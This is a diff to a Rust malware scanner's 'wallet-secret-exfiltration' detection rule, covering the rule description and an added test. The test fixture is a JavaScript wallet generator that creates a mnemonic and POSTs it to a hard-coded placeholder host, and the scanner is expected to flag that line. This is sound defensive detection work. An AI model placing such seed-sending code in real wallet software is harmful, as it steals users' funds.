@@ -10,7 +10,7 @@ diligence_finding::declare_rule! {
     /// A wallet seed, mnemonic or private key handed to the library is sent to a hard-coded host.
     ///
     /// ## What it detects
-    /// A value-flow path from a function parameter named like a wallet secret (`seed`, `mnemonic`,
+    /// A value-flow path from a function parameter or variable named like a wallet secret (`seed`, `mnemonic`,
     /// `seedPhrase`, `privateKey`, `privKey`, `walletKey` and their snake-case spellings) to a network send
     /// (`fetch`, XHR, `http(s)`, WebSocket, a beacon) whose destination is a constant — through variables,
     /// object properties, `JSON.stringify`, request headers and helper functions, with the send in the
@@ -88,6 +88,22 @@ mod tests {
             vec![("lib/util.js".to_string(), 3)]
         );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A wallet generator that posts the mnemonic it has just created.
+    #[test]
+    fn positive_generated_mnemonic_posted() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "gen.js",
+                "const bip39 = require('bip39');\nexports.create = function () {\n  const mnemonic = bip39.generateMnemonic();\n  fetch('https://api.example.org/backup', { method: 'POST', body: mnemonic });\n  return mnemonic;\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("gen.js".to_string(), 4)]
+        );
     }
 
     /// A wallet SDK signs with the key and broadcasts the signed transaction to its node.
